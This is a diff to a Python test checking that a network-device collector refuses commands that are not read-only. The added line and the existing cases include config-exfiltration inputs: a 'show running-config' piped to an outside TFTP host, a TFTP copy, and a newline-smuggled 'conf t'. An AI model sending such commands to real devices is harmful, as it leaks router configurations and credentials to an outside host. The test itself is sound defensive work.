@@ -121,6 +121,7 @@ def test_the_collector_lets_only_read_only_lines_reach_a_device() -> None:
         "reload",
         "show run\nconf t",
         "copy running-config tftp:",
+        "show running-config | redirect tftp://192.0.2.9/r1.cfg",
         "set output standard",
     ):
         with pytest.raises(WriteRefusedError, match="read-only"):
